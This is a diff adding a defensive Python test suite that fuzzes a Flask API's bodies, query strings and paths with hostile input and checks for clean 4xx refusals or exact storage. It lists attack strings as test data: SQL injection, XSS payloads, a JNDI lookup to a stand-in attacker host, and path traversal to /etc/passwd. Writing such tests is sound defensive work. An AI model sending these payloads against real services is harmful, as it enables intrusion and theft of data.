@@ -1,0 +1,181 @@
+"""Hostile input, generated: every input schema is fed oversized strings, control
+characters, deep nesting, huge numbers, bad dates, SQL and HTML fragments. Each request
+gets a 4xx, or its values are stored and returned exactly as sent; never a 500, never a
+partial write."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from flask.testing import FlaskClient
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import func, select
+from sqlalchemy.orm import Session
+
+from service.changes.models import ChangeEvent
+from tests.test_resources import RESOURCES, Resource
+
+FRAGMENTS = [
+    "'; DROP TABLE agreements; --",
+    "1 OR 1=1",
+    "<script>alert(document.cookie)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "${jndi:ldap://attacker/x}",
+    "../../../../etc/passwd",
+    "\u202etxt.exe",
+    "\x00",
+    "\ud800",
+    "\x01\x02\x1b[31m\x7f",
+    "null",
+    "",
+]
+BAD_DATES = [
+    "2024-02-30",
+    "2024-13",
+    "0000",
+    "99999",
+    "2024-1-1",
+    "2024-03-04T10:00:00",
+    "yesterday",
+]
+
+
+def nested(depth: int) -> Any:
+    value: Any = "deep"
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+hostile_values = st.one_of(
+    st.sampled_from(FRAGMENTS),
+    st.sampled_from(BAD_DATES),
+    st.text(min_size=1, max_size=40),
+    st.text(min_size=5_000, max_size=60_000, alphabet=st.characters(codec="utf-8")),
+    st.integers(min_value=-(10**40), max_value=10**40),
+    st.sampled_from([2**31, 2**63, -1, 0, 1e308, -1e308, 1.5, True, False, None]),
+    st.builds(nested, st.integers(min_value=1, max_value=60)),
+    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=3),
+    st.lists(st.sampled_from(FRAGMENTS), max_size=4),
+)
+
+
+def changes(session: Session) -> int:
+    session.expire_all()
+    return session.scalar(select(func.count()).select_from(ChangeEvent)) or 0
+
+
+def assert_stored_exactly(client: FlaskClient, location: str, sent: dict[str, Any]) -> None:
+    stored = client.get(location).json
+    for name, value in sent.items():
+        if (
+            isinstance(value, str)
+            and name in stored
+            and name not in {"due_date", "start_date", "end_date", "as_of", "date", "published_on"}
+        ):
+            assert stored[name] == value, name
+
+
+@pytest.mark.parametrize("resource", RESOURCES, ids=lambda resource: resource.name)
+@settings(
+    max_examples=30,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(data=st.data())
+def test_hostile_bodies_are_refused_or_kept_exactly(
+    client: FlaskClient, session: Session, resource: Resource, data: st.DataObject
+) -> None:
+    context = resource.setup(session)
+    body = resource.body(context)
+    field = data.draw(st.sampled_from([*body, "unexpected_field"]), label="field")
+    body[field] = data.draw(hostile_values, label="value")
+    before = changes(session)
+    response = client.post(resource.collection.format(**context), json=body)
+    assert response.status_code < 500, response.get_data(as_text=True)
+    if response.status_code == 201:
+        assert_stored_exactly(client, response.headers["Location"], body)
+    else:
+        assert 400 <= response.status_code < 500
+        assert response.mimetype == "application/problem+json"
+        assert changes(session) == before, "a refused request wrote something"
+
+
+@pytest.mark.parametrize(
+    "resource", [r for r in RESOURCES if r.patch], ids=lambda resource: resource.name
+)
+@settings(
+    max_examples=20,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(data=st.data())
+def test_hostile_updates_are_refused_or_kept_exactly(
+    client: FlaskClient, session: Session, resource: Resource, data: st.DataObject
+) -> None:
+    context = resource.setup(session)
+    created = client.post(resource.collection.format(**context), json=resource.body(context))
+    location = created.headers["Location"]
+    field = data.draw(
+        st.sampled_from([*resource.body(context), *(resource.patch or {})]), label="field"
+    )
+    patch = {field: data.draw(hostile_values, label="value")}
+    before, current = changes(session), client.get(location).json
+    response = client.patch(location, json=patch)
+    assert response.status_code < 500, response.get_data(as_text=True)
+    if response.status_code == 200:
+        assert_stored_exactly(client, location, patch)
+    else:
+        assert changes(session) == before
+        assert client.get(location).json == current
+
+
+@pytest.mark.parametrize("depth", [1_000, 100_000])
+def test_a_body_nested_beyond_reason_is_a_4xx(client: FlaskClient, depth: int) -> None:
+    body = "[" * depth + "]" * depth
+    response = client.post("/api/v1/themes", data=body, content_type="application/json")
+    assert response.status_code in (400, 413, 422)
+    assert response.mimetype == "application/problem+json"
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        {"q": "'; DROP TABLE commitments; --"},
+        {"q": "\x00"},
+        {"q": "x" * 5000},
+        {"as_of": "2024-02-30"},
+        {"page_size": "99999999999999999999"},
+        {"status": "completed' OR '1'='1"},
+        {"theme": "<script>"},
+        {"party": "%"},
+        {"due_before": "0000-00-00"},
+    ],
+)
+def test_hostile_query_parameters_are_refused_or_harmless(
+    client: FlaskClient, query: dict[str, str]
+) -> None:
+    response = client.get("/api/v1/commitments", query_string=query)
+    assert response.status_code in (200, 400), response.json
+    if response.status_code == 200:
+        assert response.json["items"] == [] or json.dumps(response.json)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/api/v1/agreements/%00",
+        "/api/v1/agreements/" + "a" * 5000,
+        "/api/v1/agreements/..%2F..%2Fetc",
+        "/api/v1/commitments/99999999999999999999",
+    ],
+)
+def test_hostile_paths_are_404s(client: FlaskClient, path: str) -> None:
+    response = client.get(path)
+    assert response.status_code == 404
+    assert response.mimetype == "application/problem+json"
